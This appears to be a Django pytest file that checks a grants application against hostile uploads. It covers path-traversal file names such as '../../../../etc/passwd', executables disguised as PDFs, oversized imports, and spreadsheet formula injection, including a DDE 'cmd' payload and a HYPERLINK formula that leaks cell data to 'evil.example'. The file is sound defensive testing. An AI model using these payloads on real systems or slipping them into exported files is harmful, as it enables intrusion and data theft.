"""Hostile files: oversized and malformed imports (commands and the admin's Import), oversized evidence,
path tricks in uploaded names, and spreadsheet formulae in exports. Every one is refused in plain
words, writes nothing, and never answers 500."""

import csv
import datetime as dt
import io
import json
import os
import re
import tempfile
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from grants.models import Award
from partnerships.models import Organisation
from reporting.models import EvidenceFile, IndicatorResult
from tests import factories as f

from .conftest import SPRING, walk_award


def zip_of(**members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


ORG_HEADER = "Identifier,Name,Kind\n"
MALFORMED = {
    "garbage.csv": bytes(range(256)) * 20,  # binary, not text in any encoding we read
    "utf16.csv": (ORG_HEADER + "GB-COH-1,Café,mat\n").encode("utf-16"),
    "empty.csv": b"",
    "no-known-headers.csv": b"Nonsense,Columns\n1,2\n",
    "ragged.csv": b"Identifier,Name\n1,2,3,4\n5\n",
    "nul.csv": b"Identifier,Name\x00,Kind\nGB-COH-1,\x00,mat\n",
    "wide.csv": (",".join(f"c{i}" for i in range(100_000)) + "\n" + "x," * 99_999 + "x\n").encode(),
    "not-a-workbook.xlsx": zip_of(**{"hello.txt": "a zip, not a workbook"}),
    "text-named.xlsx": (ORG_HEADER + "GB-COH-1,Café,mat\n").encode(),
    "object.json": json.dumps({"Identifier": "GB-COH-1"}).encode(),
    "string.json": b'"hello"',
    "numbers.json": b"[1, 2, 3]",
    "broken.json": b'[{"Identifier": ',
}


def run(command, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command(command, *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def counts():
    return Organisation.objects.count(), Award.objects.count()


@pytest.mark.parametrize("name", sorted(MALFORMED))
@pytest.mark.parametrize("command", ["import_data organisations", "import_data awards", "import_360giving"])
def test_malformed_import_file_is_refused_in_words(world, tmp_path, name, command):
    path = tmp_path / name
    path.write_bytes(MALFORMED[name])
    before = counts()
    (*words,) = command.split()
    with pytest.raises(CommandError) as refused:
        run(*words, str(path), "--user", "manager")
    message = str(refused.value)
    assert "Traceback" not in message and len(message) < 400
    assert name in message or "nothing imported" in message
    assert counts() == before


@pytest.mark.parametrize("command", ["import_data organisations", "import_360giving"])
@pytest.mark.parametrize("suffix", [".csv", ".json", ".xlsx"])
def test_oversized_import_file_is_refused_before_reading(world, tmp_path, settings, command, suffix):
    settings.IMPORT_MAX_BYTES = 2_000
    path = tmp_path / f"big{suffix}"
    path.write_bytes(b"x" * 5_000)
    before = counts()
    with pytest.raises(CommandError, match=r"big\.\w+” is 0\.0 MB; a file to import can be at most 0 MB"):
        run(*command.split(), str(path), "--user", "manager")
    assert counts() == before


# The admin's Import -------------------------------------------------------------------------------


@pytest.fixture
def import_tmp(monkeypatch, tmp_path):
    """Where django-import-export keeps an uploaded file between preview and confirm: watched here."""
    folder = tmp_path / "import-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def admin_import(client, name, content, model="partnerships/organisation"):
    upload = SimpleUploadedFile(name, content)
    fmt = {".csv": 0, ".xlsx": 1, ".json": 2}.get(os.path.splitext(name)[1], 0)
    return client.post(f"/admin/{model}/import/", {"import_file": upload, "format": fmt, "resource": 0})


def test_admin_import_formats_are_the_three_we_read(client, world):
    client.force_login(world.manager)
    page = client.get("/admin/partnerships/organisation/import/").content.decode()
    assert page.index(">csv<") < page.index(">xlsx<") < page.index(">json<")


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_admin_import_of_a_malformed_file_is_refused_on_the_form(client, world, import_tmp, name):
    client.force_login(world.manager)
    client.raise_request_exception = False
    before = counts()
    response = admin_import(client, name, MALFORMED[name])
    assert response.status_code == 200, response.status_code
    page = response.content.decode()
    assert "errornote" in page or "errorlist" in page or "Errors" in page or "Line number" in page
    assert "Confirm import" not in page
    assert counts() == before


def test_admin_import_over_the_size_limit_is_refused_and_not_stored(client, world, settings, import_tmp):
    settings.IMPORT_MAX_BYTES = 1_000
    client.force_login(world.manager)
    content = (ORG_HEADER + "GB-COH-77000001,Big Trust,mat\n" * 100).encode()
    response = admin_import(client, "big.csv", content)
    assert response.status_code == 200
    assert "a file to import can be at most" in response.content.decode()
    assert list(import_tmp.iterdir()) == []  # not written to the import's temporary storage
    assert not Organisation.objects.filter(name="Big Trust").exists()


@pytest.mark.parametrize("trick", ["../../../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "%00", ""])
def test_admin_confirm_step_with_a_path_in_the_file_name_reads_nothing_outside(client, world, import_tmp, trick):
    client.force_login(world.manager)
    client.raise_request_exception = False
    before = counts()
    response = client.post(
        "/admin/partnerships/organisation/process_import/",
        {"import_file_name": trick, "original_file_name": "x.csv", "format": 0, "resource": 0},
    )
    assert response.status_code < 500
    assert "root:" not in response.content.decode()
    assert counts() == before


# Evidence files -----------------------------------------------------------------------------------


@pytest.fixture
def draft_update(world, media):
    from reporting import services

    award = f.AwardFactory(
        programme=world.programme,
        recipient=world.partner_org,
        partnership=world.partnership,
        amount_requested=Decimal("40000.00"),
        planned_start=dt.date(2026, 1, 5),
        planned_end=dt.date(2026, 12, 18),
        reporting_frequency="termly",
    )
    award = walk_award(award, world)
    return services.update_start(actor=world.partner, award=award, period_start=SPRING[0], period_end=SPRING[1])


def stored_files(root):
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def post_evidence(client, update, name, content):
    return client.post(
        reverse("reporting:update_edit", args=[update.pk]),
        {"progress": "Kept as typed", "evidence": SimpleUploadedFile(name, content)},
    )


def test_oversized_evidence_is_refused_with_the_form_kept(client, world, draft_update, media, settings):
    settings.EVIDENCE_MAX_BYTES = 1_000
    client.force_login(world.partner)
    response = post_evidence(client, draft_update, "notes.txt", b"a" * 5_000)
    assert response.status_code == 400
    page = response.content.decode()
    assert "govuk-error-summary" in page and "Kept as typed" in page
    assert not EvidenceFile.objects.exists()
    assert stored_files(media) == []
    draft_update.refresh_from_db()
    assert draft_update.progress != "Kept as typed"  # a refused file leaves the rest unsaved too


@pytest.mark.parametrize(
    "name",
    [
        "../../../../tmp/evil.txt",
        "..\\..\\windows\\evil.txt",
        "/etc/passwd",
        "evil\x00.txt",
        "....//....//evil.txt",
        "%2e%2e%2fevil.txt",
        "." * 300 + "txt",
        "\u202eevil.txt",
    ],
)
def test_a_path_in_an_evidence_name_never_leaves_the_media_folder(client, world, draft_update, media, tmp_path, name):
    client.force_login(world.partner)
    client.raise_request_exception = False
    outside_before = {p for p in tmp_path.rglob("*") if p.is_file() and media not in p.parents}
    response = post_evidence(client, draft_update, name, b"Peer review notes\n")
    # Judged by content, not name: a text file under any name is kept, under a cleaned name.
    assert response.status_code == 302
    assert EvidenceFile.objects.count() == 1
    outside_after = {p for p in tmp_path.rglob("*") if p.is_file() and media not in p.parents}
    assert outside_after == outside_before
    for evidence in EvidenceFile.objects.all():
        assert "/" not in evidence.original_name and "\\" not in evidence.original_name
        assert ".." not in evidence.original_name.replace("...", "")
        assert media.resolve() in (media / evidence.file.name).resolve().parents
        download = client.get(reverse("reporting:evidence_download", args=[evidence.pk]))
        assert download.status_code == 200
        assert "/" not in download["Content-Disposition"].split("filename", 1)[1]


@pytest.mark.parametrize(
    "name, content",
    [
        ("report.pdf", b"MZ\x90\x00" + b"\x00" * 200),  # a program named .pdf
        ("figures.xlsx", zip_of(**{"payload.exe": "MZ"})),  # a zip that is not a workbook
        ("empty.txt", b""),
    ],
)
def test_evidence_whose_content_is_not_what_its_name_says_is_refused(client, world, draft_update, media, name, content):
    client.force_login(world.partner)
    response = post_evidence(client, draft_update, name, content)
    assert response.status_code == 400
    assert not EvidenceFile.objects.exists()
    assert stored_files(media) == []


def test_text_named_as_a_workbook_is_kept_as_the_text_it_is(client, world, draft_update, media):
    client.force_login(world.partner)
    response = post_evidence(client, draft_update, "figures.xlsx", b"Identifier,Name\n")
    assert response.status_code == 302
    assert EvidenceFile.objects.get().content_type == "text/plain"


# Formulae and control characters in exports ---------------------------------------------------------

FORMULA = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_award(world):
    award = f.AwardFactory(
        programme=world.programme,
        recipient=world.partner_org,
        title=FORMULA,
        description='=HYPERLINK("http://evil.example/?"&A1,"Click")\x07\x1b',
    )
    return award


def cells_of(path):
    if path.suffix == ".csv":
        return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        return [cell.value for row in book.active.iter_rows() for cell in row if cell.value is not None]
    raise AssertionError(path)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_cells_never_start_a_formula(world, hostile_award, tmp_path, suffix):
    path = tmp_path / f"awards{suffix}"
    run("export_data", "awards", "-o", str(path), "--user", "manager")
    cells = [str(c) for c in cells_of(path)]
    assert any("cmd|" in c for c in cells)  # the text is kept…
    assert not any(c.startswith("=") for c in cells)  # …but no cell is a formula
    assert "None" not in cells  # escaping turns cells into text: an empty one stays empty
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)


def test_admin_export_never_starts_a_formula(client, world, hostile_award):
    client.force_login(world.manager)
    page = client.get("/admin/grants/award/export/").content.decode()
    fields = {name: "on" for name in re.findall(r'name="(awardresource_\w+)"', page)}
    assert "awardresource_title" in fields
    response = client.post("/admin/grants/award/export/", {"format": 0, "resource": 0, **fields})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    assert any("cmd|" in c for c in cells)
    assert not any(c.startswith("=") for c in cells)


def test_control_characters_do_not_break_an_xlsx_export(world, tmp_path):
    f.AwardFactory(programme=world.programme, recipient=world.partner_org, title="Bell\x07 and escape\x1b")
    path = tmp_path / "awards.xlsx"
    run("export_data", "awards", "-o", str(path), "--user", "manager")
    assert any("Bell" in str(c) for c in cells_of(path))


def test_results_import_with_another_sides_indicator_writes_nothing(world, tmp_path):
    """An import names objects by their keys: an award of the other side is unknown, not reachable."""
    award_b = f.AwardFactory(programme=world.programme_b, recipient=world.partner_org_b)
    f.IndicatorFactory(award=award_b, name="Children reached")
    path = tmp_path / "results.csv"
    path.write_text(
        f"Award,Indicator,Period start,Period end,Value\n{award_b.identifier},Children reached,"
        "2026-01-05,2026-03-31,99\n"
    )
    with pytest.raises(CommandError):
        run("import_data", "results", str(path), "--user", "manager")
    assert not IndicatorResult.objects.exists()


# Evidence through the API ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, content, limit",
    [
        ("notes.txt", b"a" * 5_000, 1_000),  # over the limit
        ("report.pdf", b"MZ\x90\x00" + b"\x00" * 200, None),  # a program named .pdf
        ("../../../../tmp/evil.exe", b"MZ\x90\x00", None),
    ],
)
def test_api_evidence_upload_refused_in_words(client, world, draft_update, media, settings, name, content, limit):
    if limit:
        settings.EVIDENCE_MAX_BYTES = limit
    client.force_login(world.partner)
    response = client.post(f"/api/v1/updates/{draft_update.pk}/evidence/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 400
    assert isinstance(response.json(), dict)
    assert not EvidenceFile.objects.exists()
    assert stored_files(media) == []


def test_api_evidence_upload_with_a_path_in_its_name_stays_in_the_media_folder(client, world, draft_update, media):
    client.force_login(world.partner)
    response = client.post(
        f"/api/v1/updates/{draft_update.pk}/evidence/",
        {"file": SimpleUploadedFile("../../../../tmp/evil.txt", b"Peer review notes\n")},
    )
    assert response.status_code == 201
    evidence = EvidenceFile.objects.get()
    assert evidence.original_name == "evil.txt"
    assert media.resolve() in (media / evidence.file.name).resolve().parents


def test_api_evidence_upload_to_the_other_sides_update_is_not_found(client, world, draft_update, media):
    client.force_login(world.partner_b)
    response = client.post(
        f"/api/v1/updates/{draft_update.pk}/evidence/", {"file": SimpleUploadedFile("a.txt", b"hello\n")}
    )
    assert response.status_code == 404
    assert not EvidenceFile.objects.exists()
